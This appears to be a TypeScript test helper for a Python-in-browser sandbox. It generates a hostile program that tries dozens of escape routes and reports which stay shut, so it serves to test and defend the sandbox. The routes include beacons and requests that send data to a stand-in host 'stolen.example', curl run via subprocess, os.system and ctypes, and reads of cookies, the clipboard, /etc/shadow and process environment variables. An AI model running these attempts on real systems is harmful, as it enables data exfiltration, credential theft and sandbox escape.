// A stranger's program that was sent, and tries to get out: by every API of the worker it runs in, and by every way Python knows. Each way is named;
// what it has come to is told by the program itself, and what got out is heard.
import { FETCHES, KEPT, NETWORK, OPENED, RARE } from '../ways-out.ts';

/** JavaScript that resolves if the way is open. OWN and FOREIGN are addresses with a slash at their end, NAME is what the way is called there. */
const MORE: Readonly<Record<string, string>> = {
  beacon: 'must(navigator.sendBeacon(FOREIGN + NAME, "stolen"))',
  'peer-connection': 'new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + UDP }] }).createOffer()',
  image: 'new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = FOREIGN + NAME; })',
  bitmap: 'asked(FOREIGN + NAME).then(createImageBitmap)',
  'streamed-wasm': 'WebAssembly.compileStreaming(fetch(FOREIGN + NAME))',
  'shared-worker': 'new Promise((ok, no) => { const w = new SharedWorker(OWN + NAME); w.onerror = no; w.port.onmessage = ok; })',
  'worker-of-data': 'started(new Worker("data:text/javascript,postMessage(1)"))',
  channel:
    'new Promise((ok) => { const c = new BroadcastChannel("onionskin"); c.onmessage = ok; c.postMessage("who is there?"); })',
  parent: 'must(self.parent.postMessage("x", "*") === undefined)',
  top: 'must(self.top.postMessage("x", "*") === undefined)',
  opener: 'must(self.opener.postMessage("x", "*") === undefined)',
  window: 'must(self.open(FOREIGN + NAME))',
  location: 'must((self.location.href = FOREIGN + NAME) && !self.location.href.startsWith("blob:"))',
  document: 'must(self.document.cookie !== undefined)',
  'local-storage': 'must(self.localStorage.getItem("onionskin") !== undefined)',
  'session-storage': 'must(self.sessionStorage.length >= 0)',
  'cookies-read': 'cookieStore.getAll()',
  'databases-listed': 'indexedDB.databases()',
  'cache-read': 'caches.match("/beside").then((found) => must(found))',
  persist: 'navigator.storage.persist().then(must)',
  share: 'navigator.share({ url: FOREIGN + NAME })',
  clipboard: 'navigator.clipboard.readText()',
  serial: 'navigator.serial.getPorts()',
  push: 'Notification.requestPermission()',
};

/** Whether an ear hears it when there is no wall: by these a test can tell that walls are what holds. */
export const HEARD: readonly string[] = [...Object.keys(NETWORK).filter((name) => !/-own$/.test(name)), 'bitmap'];

export const inScript: Readonly<Record<string, string>> = { ...NETWORK, ...RARE, ...KEPT, ...MORE };
/** In a worker that the program starts within its own, where nobody has put another `fetch` in its place. */
export const inNested: Readonly<Record<string, string>> = FETCHES;

/** Python that comes to its end if the way is open. */
const inPython: Readonly<Record<string, string>> = {
  urllib: 'import urllib.request; urllib.request.urlopen(FOREIGN + "urllib", timeout=1)',
  'http.client':
    'import http.client; c = http.client.HTTPConnection("stolen.example", timeout=1); c.request("GET", "/http.client"); c.getresponse()',
  'socket.create_connection':
    'import socket; s = socket.create_connection(("127.0.0.1", PORT), 1); s.sendall(b"GET /socket HTTP/1.0\\r\\n\\r\\n"); must(s.recv(1))',
  datagram:
    'import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("127.0.0.1", UDP)); s.send(b"x"); must(s.recv(1))',
  asyncio: 'import asyncio; asyncio.get_event_loop().run_until_complete(asyncio.open_connection("127.0.0.1", PORT)).result()',
  smtplib: 'import smtplib; smtplib.SMTP("stolen.example", timeout=1)',
  open_url: 'import pyodide.http; pyodide.http.open_url(FOREIGN + "open_url")',
  pyfetch: 'import pyodide.http; pyodide.http.pyfetch(FOREIGN + "pyfetch").send(None).result()',
  pyxhr: 'import pyodide.http; pyodide.http.pyxhr.get(FOREIGN + "pyxhr")',
  'js.XMLHttpRequest': 'x = js.XMLHttpRequest.new(); x.open("GET", FOREIGN + "js", False); x.send()',
  'js.localStorage': 'js.localStorage.getItem("onionskin")',
  'js.document': 'js.document.cookie',
  'js.parent': 'js.parent.postMessage("x", "*")',
  run_js: 'import pyodide.code; pyodide.code.run_js("importScripts(" + repr(FOREIGN + "run_js") + ")")',
  pyodide_js: 'import pyodide_js; pyodide_js.loadPackage(FOREIGN + "pyodide_js.whl").result()',
  micropip: 'import micropip; micropip.install(FOREIGN + "micropip.whl").send(None)',
  webbrowser: 'import webbrowser; must(webbrowser.open(FOREIGN + "webbrowser"))',
  subprocess: 'import subprocess; subprocess.run(["curl", FOREIGN + "subprocess"], check=True)',
  'os.system': 'import os; must(os.system("curl " + FOREIGN + "os.system") == 0)',
  fork: 'import os; os.fork()',
  ctypes: 'import ctypes; must(ctypes.CDLL(None).system(b"curl") == 0)',
  'files of the machine': 'must(open("/etc/shadow").read() or open("/proc/self/environ").read())',
};

export const ways: readonly string[] = [
  ...Object.keys(inScript),
  ...Object.keys(inNested).map((name) => `nested-${name}`),
  ...Object.keys(inPython),
];

const functions = (ways: Readonly<Record<string, string>>) =>
  `{${Object.entries(ways).map(([name, way]) => `${JSON.stringify(name)}: (NAME) => ${way}`)}}`;

/** So many ways at a time: a request has its time limit. */
export const AT_ONCE = 15;

/** `/try/<from>` tries as many from that number on, `/told/<way>` tells what has become of it, anything else is an honest answer. */
export function program(who: string, own: string, ear: { port: number; udp: number }): string {
  const helpers = `const OWN = ${JSON.stringify(own)}, FOREIGN = "http://stolen.example/", UDP = ${ear.udp};
const must = (what) => { if (!what) throw new Error("nothing"); return Promise.resolve(what); };
const asked = (url) => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", url); x.onload = ok; x.onerror = no; x.send(); });
const started = (w) => new Promise((ok, no) => { w.onmessage = ok; w.onerror = no; });
const attempt = (way, name) => Promise.race([(async () => way(${JSON.stringify(who)} + "/" + name))(), new Promise((_, no) => setTimeout(no, 700, "silence"))]).then(() => "OPEN", (why) => "shut: " + String(why?.message ?? why?.type ?? why).slice(0, 90));`;
  const nested = `${helpers} const ways = ${functions(inNested)}; onmessage = ({ data }) => attempt(ways[data], "nested-" + data).then((said) => postMessage([data, said]));`;
  const script = `{ ${helpers} const ways = ${functions(inScript)};
globalThis.told = {};
const inside = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(nested)}])));
inside.onmessage = ({ data: [name, said] }) => { told["nested-" + name] = said; };
globalThis.attempt = (name) => { if (name.startsWith("nested-")) inside.postMessage(name.slice(7)); else attempt(ways[name], name).then((said) => { told[name] = said; }); }; }`;
  return `${OPENED}

PORT, UDP, FOREIGN = ${ear.port}, ${ear.udp}, "http://stolen.example/${who}/"
js.importScripts(js.URL.createObjectURL(js.Blob.new([${JSON.stringify(script)}])))
WAYS = ${JSON.stringify(inPython)}
NAMES = ${JSON.stringify(ways)}
told = {}


def must(what):
    if not what:
        raise ValueError("nothing")


def attempt(name):
    if name not in WAYS:
        return js.attempt(name)
    try:
        exec(WAYS[name], globals())
        told[name] = "OPEN"
    except BaseException as error:
        told[name] = f"shut: {type(error).__name__}: {error}"[:120]


def application(environ, start_response):
    _, what, *rest = environ["PATH_INFO"].split("/", 2)
    if what == "try":
        for name in NAMES[int(rest[0]) :][:${AT_ONCE}]:
            attempt(name)
    said = str(told.get(rest[0]) or getattr(js.told, rest[0], None) or "waiting") if what == "told" else "honest " + what
    start_response("200 OK", [("Content-Type", "text/plain; charset=utf-8")])
    return [f"[{said}]".encode()]
`;
}
